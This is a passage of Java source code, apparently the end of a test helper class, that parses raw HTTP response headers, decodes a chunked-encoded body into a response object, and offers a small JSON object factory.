            headers.computeIfAbsent(lines[i].substring(0, colon).trim().toLowerCase(Locale.ROOT), k -> new ArrayList<>())
                    .add(lines[i].substring(colon + 1).trim());
        }
        String body = text.substring(end + 4);
        if (headers.getOrDefault("transfer-encoding", List.of()).contains("chunked")) {
            StringBuilder plain = new StringBuilder();
            int at = 0;
            while (at < body.length()) {
                int lineEnd = body.indexOf("\r\n", at);
                if (lineEnd < 0) {
                    break;
                }
                int size = Integer.parseInt(body.substring(at, lineEnd).split(";")[0].trim(), 16);
                if (size == 0) {
                    break;
                }
                plain.append(body, lineEnd + 2, Math.min(body.length(), lineEnd + 2 + size));
                at = lineEnd + 2 + size + 2;
            }
            body = plain.toString();
        }
        String contentType = headers.getOrDefault("content-type", List.of("")).get(0);
        return new Res(status, contentType, headers, new String(body.getBytes(StandardCharsets.ISO_8859_1), StandardCharsets.UTF_8));
    }

    static ObjectNode object() {
        return JSON.createObjectNode();
    }
}
